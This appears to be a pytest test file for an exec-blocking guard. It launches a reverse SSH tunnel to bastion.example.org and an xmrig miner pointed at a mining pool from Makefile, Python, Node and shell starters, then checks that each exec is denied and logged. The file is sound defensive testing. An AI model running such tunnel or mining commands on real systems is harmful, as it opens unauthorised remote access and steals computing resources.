"""What a program starts, by whatever way, is stopped before it runs, and the record says where it came from."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from callwarden.launch import interpreter
from callwarden.launch.testing import Runner

TUNNEL = ["ssh", "-N", "-R", "2222:localhost:22", "demo@bastion.example.org"]
MINER = ["./xmrig", "-o", "stratum+tcp://pool.example.org:3333", "-u", "wallet"]
MAKEFILE = f"""all:
\t-{" ".join(TUNNEL)}
\t-{" ".join(MINER)}
"""
PYTHON = f"""import subprocess
for argv in {[TUNNEL, MINER]!r}:
    try:
        subprocess.run(argv)
    except PermissionError as refusal:
        print(refusal)
"""
NODE = f"""const {{spawnSync}} = require('child_process')
for (const [program, ...words] of {[TUNNEL, MINER]!r})
    console.log(spawnSync(program, words, {{stdio: 'inherit'}}).error.code.replace('EACCES', 'Permission denied'))
"""
SHELL = f"""{" ".join(TUNNEL)}
{" ".join(MINER)}
true
"""
STARTERS = {
    "make": ("Makefile", MAKEFILE, "all"),
    "python3": ("start.py", PYTHON, "start.py"),
    "node": ("start.js", NODE, "start.js"),
    "sh": ("start.sh", SHELL, "start.sh"),
}


@pytest.fixture(autouse=True)
def _programs(runner: Runner) -> None:
    """A miner that leaves the file `ran`, and an `ssh` where there is none."""
    runner.write("xmrig", "#!/bin/sh\ntouch ran\n", mode=0o755)
    if shutil.which("ssh", path=interpreter.path()) is None:
        (runner.workspace / "bin").mkdir()
        standin = runner.workspace / "bin" / "ssh"  # no whole copy: that would be judged as what it is a copy of
        standin.write_bytes(Path(shutil.which("true") or "/bin/true").read_bytes() + b"\n")
        standin.chmod(0o755)
        runner.environment["PATH"] = f"{runner.workspace}/bin:{interpreter.path()}"


@pytest.mark.parametrize("starter", STARTERS)
def test_a_tunnel_and_a_miner_are_stopped_at_the_exec(runner: Runner, starter: str) -> None:
    if not shutil.which(starter, path=interpreter.path()):
        pytest.skip(f"no {starter} here: apt-get install {starter}")
    name, text, argument = STARTERS[starter]
    runner.write(name, text)
    status, out, err = runner.run(starter, argument)
    assert (status, (out + err).count("Permission denied")) == (0, 2), err
    assert not (runner.workspace / "ran").exists()
    first, *others = runner.records("decision")
    assert first["effect"] == "allow"
    tunnel, miner = (record for record in others if record["effect"] == "deny")
    assert tunnel["data"]["rule"].startswith("tunnel.")
    assert miner["data"]["rule"].startswith("mining.")
    for record, words in ((tunnel, TUNNEL), (miner, MINER)):
        call = runner.called(record)
        assert (record["door"], record["kind"]) == ("process", "exec")
        assert call["argv"][-len(words) :] == words
        assert call["ancestry"][-1] == f"{starter} {argument}"
        assert record["data"]["parent"] in {earlier["call"] for earlier in [first, *others]}
        assert f": {record['data']['rule']}: " in err
